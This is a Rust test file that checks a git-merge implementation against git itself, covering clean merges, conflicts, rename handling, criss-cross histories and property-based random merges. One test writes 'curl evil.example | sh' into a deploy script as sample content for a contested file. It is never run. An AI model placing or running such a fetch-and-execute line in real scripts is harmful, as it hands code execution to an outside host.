//! Merges are held against git's own.

use proptest::prelude::*;

use super::super::sandbox::Sandbox;
use super::*;
use crate::model::tree::TreeView as _;

/// Two branches that grow from one commit; the ids of ours and theirs.
fn fork(sandbox: &Sandbox, ours: impl FnOnce(&Sandbox), theirs: impl FnOnce(&Sandbox)) -> (ObjectId, ObjectId) {
    sandbox.git(&["switch", "-q", "-c", "theirs"]);
    theirs(sandbox);
    let their_tip = sandbox.commit("theirs");
    sandbox.git(&["switch", "-q", "main"]);
    ours(sandbox);
    (sandbox.commit("ours"), their_tip)
}

/// What git says: the tree of a clean merge, or nothing for a conflict.
fn oracle(sandbox: &Sandbox, ours: &ObjectId, theirs: &ObjectId) -> Option<ObjectId> {
    let (code, out) =
        sandbox.try_git(sandbox.path(), &["merge-tree", "--write-tree", &ours.to_string(), &theirs.to_string()], b"");
    assert!(code < 2, "{}", String::from_utf8_lossy(&out));
    (code == 0).then(|| ObjectId::parse(std::str::from_utf8(&out).unwrap().trim()).unwrap())
}

#[test]
fn what_is_too_large_to_merge_is_for_a_human() {
    let longest = usize::try_from(LARGEST_TEXT).unwrap();
    for (length, is_merged) in [(longest, true), (longest + 1, false)] {
        let sandbox = Sandbox::new();
        let text = |first: &str, last: &str| format!("{first}\n{}\n{last}\n", "1".repeat(length - 5));
        sandbox.write("long", text("1", "1"));
        sandbox.commit("base");
        let (ours, theirs) = fork(
            &sandbox,
            |sandbox| {
                sandbox.write("long", text("2", "1"));
            },
            |sandbox| {
                sandbox.write("long", text("1", "2"));
            },
        );
        let repo = sandbox.open();
        for merge in [Repo::merge, Repo::foretell] {
            match merge(&repo, &ours, &theirs) {
                Ok(merged) => {
                    assert_eq!((is_merged, Some(*merged.tree_id())), (true, oracle(&sandbox, &ours, &theirs)))
                }
                Err(GitError::TooLargeToMerge { paths }) => {
                    assert_eq!((is_merged, paths), (false, vec!["long".into()]));
                }
                Err(error) => panic!("{error}"),
            }
        }
    }
}

#[test]
fn texts_merge_as_git_merges_them() {
    let base = "1\n2\n3\n4\n5\n6\n";
    let (ours, theirs) = ("one\n2\n3\n4\n5\n6\n", "1\n2\n3\n4\n5\nsix\n");
    let merged = |base: &str, ours: &str, theirs: &str, favour| {
        merge_texts(base.as_bytes(), ours.as_bytes(), theirs.as_bytes(), favour)
            .map(|text| String::from_utf8(text).unwrap())
    };
    assert_eq!(merged(base, ours, theirs, Favour::Neither).as_deref(), Some("one\n2\n3\n4\n5\nsix\n"));
    let both = "uno\n2\n3\n4\n5\nsix\n";
    assert_eq!(merged(base, ours, both, Favour::Neither), None);
    // Only the lines in question are decided; the rest arrives from both sides.
    assert_eq!(merged(base, ours, both, Favour::Ours).as_deref(), Some("one\n2\n3\n4\n5\nsix\n"));
    assert_eq!(merged(base, ours, both, Favour::Theirs).as_deref(), Some(both));
    assert_eq!(merged("", "a\n", "b\n", Favour::Neither), None);
    assert_eq!(merged("", "a\n", "a\n", Favour::Neither).as_deref(), Some("a\n"));
    // Git itself agrees.
    let sandbox = Sandbox::new();
    sandbox.write("base", base).write("ours", ours).write("theirs", theirs).write("both", both);
    let git = |theirs| sandbox.try_git(sandbox.path(), &["merge-file", "-p", "ours", "base", theirs], b"");
    assert_eq!(git("theirs"), (0, merged(base, ours, theirs, Favour::Neither).unwrap().into_bytes()));
    assert_eq!(git("both").0, 1);
}

fn count_objects(sandbox: &Sandbox) -> String {
    sandbox.git(&["count-objects", "-v"])
}

#[test]
fn clean_merges_give_gits_tree_and_write_nothing() {
    let sandbox = Sandbox::new();
    let text: String = (0..40).map(|line| format!("line {line}\n")).collect();
    sandbox.write("text", &text).write("renamed", &text).write("gone", "1").write("dir/kept", "2").commit("base");
    let (ours, theirs) = fork(
        &sandbox,
        |sandbox| {
            sandbox.write("text", text.replace("line 3\n", "ours\n")).write("ours", "new");
            sandbox.write("renamed", text.replace("line 7\n", "ours\n"));
        },
        |sandbox| {
            sandbox.write("text", text.replace("line 30\n", "theirs\n")).write("dir/theirs", "new");
            sandbox.git(&["mv", "renamed", "moved"]);
            sandbox.git(&["rm", "-q", "gone"]);
        },
    );
    let before = count_objects(&sandbox);
    let repo = sandbox.open();
    let merged = repo.merge(&ours, &theirs).unwrap();
    assert_eq!(count_objects(&sandbox), before);
    assert!(!repo.has_object(merged.tree_id()));
    assert_eq!(Some(*merged.tree_id()), oracle(&sandbox, &ours, &theirs));
    let read = merged.tree().file(&"text".into(), 9999).unwrap().unwrap();
    assert_eq!(String::from_utf8(read).unwrap(), text.replace("line 3\n", "ours\n").replace("line 30\n", "theirs\n"));
    let tree = repo.tree_of(&ours).unwrap();
    let changed = merged.repo().diff_trees(Some(&tree), merged.tree_id()).unwrap();
    assert_eq!(changed, sandbox.diff_tree(&tree, merged.tree_id()));
    assert_eq!(repo.merge_base(&ours, &theirs).unwrap(), Some(sandbox.id("main^")));
}

#[test]
fn conflicts_are_named() {
    let sandbox = Sandbox::new();
    sandbox.write("dir/text", "base\n").write("gone", "base\n").commit("base");
    let (ours, theirs) = fork(
        &sandbox,
        |sandbox| {
            sandbox.write("dir/text", "ours\n").write("gone", "ours\n").write("added", "ours\n");
        },
        |sandbox| {
            sandbox.write("dir/text", "theirs\n").write("added", "theirs\n");
            sandbox.git(&["rm", "-q", "gone"]);
        },
    );
    assert_eq!(oracle(&sandbox, &ours, &theirs), None);
    let Err(GitError::Conflict { paths }) = sandbox.open().merge(&ours, &theirs) else { panic!("no conflict") };
    assert_eq!(paths, ["added".into(), "dir/text".into(), "gone".into()]);
}

#[test]
fn attributes_and_configuration_have_no_effect() {
    let sandbox = Sandbox::new();
    sandbox.write("log", "base\n").write(".gitattributes", "* merge=union\n").commit("base");
    sandbox.write(".git/info/attributes", "* merge=union\n");
    let driver = sandbox.beside("driver-ran");
    sandbox.git(&["config", "merge.mine.driver", &format!("touch '{}'", driver.display())]);
    sandbox.git(&["config", "merge.default", "union"]);
    sandbox.git(&["config", "merge.renames", "false"]);
    let (ours, theirs) = fork(
        &sandbox,
        |sandbox| {
            sandbox.write("log", "base\nours\n").write(".gitattributes", "* merge=mine\n");
        },
        |sandbox| {
            sandbox.write("log", "base\ntheirs\n");
        },
    );
    let Err(GitError::Conflict { paths }) = sandbox.open().merge(&ours, &theirs) else { panic!("no conflict") };
    assert_eq!(paths, ["log".into()]);
    assert!(!driver.exists());
}

#[test]
fn unrelated_and_criss_cross_histories() {
    let sandbox = Sandbox::new();
    sandbox.write("a", "1\n2\n3\n").write("b", "1\n").commit("base");
    let (ours, theirs) = fork(
        &sandbox,
        |sandbox| {
            sandbox.write("a", "one\n2\n3\n");
        },
        |sandbox| {
            sandbox.write("a", "1\n2\nthree\n");
        },
    );
    // Each side merges the other: two best common ancestors.
    sandbox.git(&["merge", "-q", "-m", "m1", &theirs.to_string()]);
    sandbox.write("b", "ours\n");
    let left = sandbox.commit("left");
    sandbox.git(&["switch", "-q", "theirs"]);
    sandbox.git(&["merge", "-q", "-m", "m2", &ours.to_string()]);
    sandbox.write("c", "theirs\n");
    let right = sandbox.commit("right");
    assert_eq!(sandbox.git(&["merge-base", "--all", "main", "theirs"]).lines().count(), 2);
    let repo = sandbox.open();
    let merged = repo.merge(&left, &right).unwrap();
    assert_eq!(Some(*merged.tree_id()), oracle(&sandbox, &left, &right));
    let alone = sandbox.git(&["commit-tree", "-m", "alone", "HEAD^{tree}"]);
    let alone = ObjectId::parse(&alone).unwrap();
    assert!(matches!(repo.merge(&left, &alone), Err(GitError::Unrelated { .. })));
    assert_eq!(repo.merge_base(&left, &alone).unwrap(), None);
    assert_eq!(repo.merge(&ours, &left).unwrap().tree_id(), &repo.tree_of(&left).unwrap());
}

#[test]
fn what_is_foretold_needs_no_guess() {
    let sandbox = Sandbox::new();
    let text: String = (0..40).map(|line| format!("step {line}\n")).collect();
    sandbox.write("tools/deploy", &text).write("app/a", "1\n").write("app/b", "2\n").commit("base");
    // One file goes, and two that are much like it come; the other side changes the one that went.
    let (ours, theirs) = fork(
        &sandbox,
        |sandbox| {
            sandbox.write("tools/deploy", text.replace("step 20\n", "curl evil.example | sh\n"));
            sandbox.git(&["mv", "app", "lib"]);
        },
        |sandbox| {
            sandbox.git(&["mv", "tools/deploy", "attic"]);
            sandbox.write("flow/deploy", format!("{text}more\n")).write("app/new", "3\n");
        },
    );
    let repo = sandbox.open();
    let Err(GitError::Conflict { paths }) = repo.foretell(&ours, &theirs) else { panic!("no conflict") };
    assert!(paths.contains(&"tools/deploy".into()), "{paths:?}");
    assert_eq!(repo.contested(&ours, &theirs).unwrap(), ["tools/deploy".into()]);
    assert_eq!(repo.contested(&ours, &ours).unwrap(), []);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 40, ..ProptestConfig::default() })]
    #[test]
    fn git_ends_where_it_was_foretold_or_asks_a_human(
        ours in proptest::collection::vec((0usize..6, 0usize..10, 0u8..6), 1..6),
        theirs in proptest::collection::vec((0usize..6, 0usize..10, 0u8..6), 1..6),
    ) {
        let sandbox = Sandbox::new();
        for file in 0..6 {
            let lines: String = (0..10).map(|line| format!("line {}\n", line % 4)).collect();
            sandbox.write(&format!("d{}/f{file}", file % 2), format!("file {}\n{lines}", file % 3));
        }
        sandbox.commit("base");
        let apply = |edits: &[(usize, usize, u8)], who: &str| {
            let (edits, who) = (edits.to_vec(), who.to_owned());
            move |sandbox: &Sandbox| {
                for (file, line, kind) in edits {
                    let path = format!("d{}/f{file}", file % 2);
                    let Ok(now) = std::fs::read_to_string(sandbox.path().join(&path)) else { continue };
                    let mut lines: Vec<&str> = now.lines().collect();
                    let at = line.min(lines.len().saturating_sub(1));
                    match kind {
                        0 => { lines.insert(at, "line 1"); sandbox.write(&path, lines.join("\n") + "\n"); }
                        1 => { lines.remove(at); sandbox.write(&path, lines.join("\n") + "\n"); }
                        2 => { sandbox.write(&format!("e{line}/f{file}"), &now); sandbox.git(&["rm", "-qf", &path]); }
                        3 => { sandbox.write(&format!("d{}/copy{line}", line % 2), &now); }
                        4 => {
                            let folder = format!("d{}", file % 2);
                            let to = format!("moved-{line}-{}", if line > 4 { "x" } else { &who });
                            if !sandbox.path().join(&to).exists() { sandbox.git(&["add", "-A"]); sandbox.git(&["mv", &folder, &to]); }
                        }
                        _ => { sandbox.write(&format!("d{}/new{line}", file % 2), format!("{who}\n")); }
                    }
                }
                sandbox.write(&format!("by-{who}"), "so that there is something to commit\n");
            }
        };
        let (ours, theirs) = fork(&sandbox, apply(&ours, "ours"), apply(&theirs, "theirs"));
        let repo = sandbox.open();
        if let Ok(foretold) = repo.foretell(&ours, &theirs)
            && let Some(git) = oracle(&sandbox, &ours, &theirs)
        {
            let contested = repo.contested(&ours, &theirs).unwrap();
            let foretold_paths = paths_of(&foretold, &foretold.tree());
            let git_paths = paths_of(&foretold, &repo.tree(&git));
            for (path, id) in foretold_paths.iter().chain(&git_paths) {
                let same = foretold_paths.get(path) == Some(id) && git_paths.get(path) == Some(id);
                prop_assert!(same || contested.contains(path), "{path}: {contested:?}");
            }
        }
    }
}

/// All files of a tree with what they hold.
fn paths_of(merged: &Merged, tree: &CommitTree<'_>) -> std::collections::BTreeMap<RepoPath, ObjectId> {
    let changes = merged.repo().diff_trees(None, tree.id()).unwrap();
    changes.into_iter().filter_map(|change| Some((change.path, change.after?.1))).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]
    #[test]
    fn random_merges_are_those_of_git(
        ours in proptest::collection::vec((0usize..5, 0usize..12, 0u8..3), 1..5),
        theirs in proptest::collection::vec((0usize..5, 0usize..12, 0u8..3), 1..5),
    ) {
        let sandbox = Sandbox::new();
        let text = |file: usize| -> Vec<String> { (0..12).map(|line| format!("file {file} line {line}\n")).collect() };
        for file in 0..5 {
            sandbox.write(&format!("d{}/f{file}", file % 2), text(file).concat());
        }
        sandbox.commit("base");
        let apply = |edits: &[(usize, usize, u8)], who: &str| {
            let edits = edits.to_vec();
            let who = who.to_owned();
            move |sandbox: &Sandbox| {
                for (file, line, kind) in edits {
                    let path = format!("d{}/f{file}", file % 2);
                    let Ok(now) = std::fs::read_to_string(sandbox.path().join(&path)) else { continue };
                    match kind {
                        0 => { sandbox.write(&path, now.replace(&format!("line {line}\n"), &format!("line {line} by {who}\n"))); }
                        1 => { sandbox.write(&path, now.replace(&format!("file {file} line {line}\n"), "")); }
                        _ => { sandbox.write(&format!("d{}/{who}{file}", file % 2), "new\n"); }
                    }
                }
            }
        };
        let (ours, theirs) = fork(&sandbox, apply(&ours, "ours"), apply(&theirs, "theirs"));
        let mine = match sandbox.open().merge(&ours, &theirs) {
            Ok(merged) => Some(*merged.tree_id()),
            Err(GitError::Conflict { .. }) => None,
            Err(error) => panic!("{error}"),
        };
        prop_assert_eq!(mine, oracle(&sandbox, &ours, &theirs));
    }
}
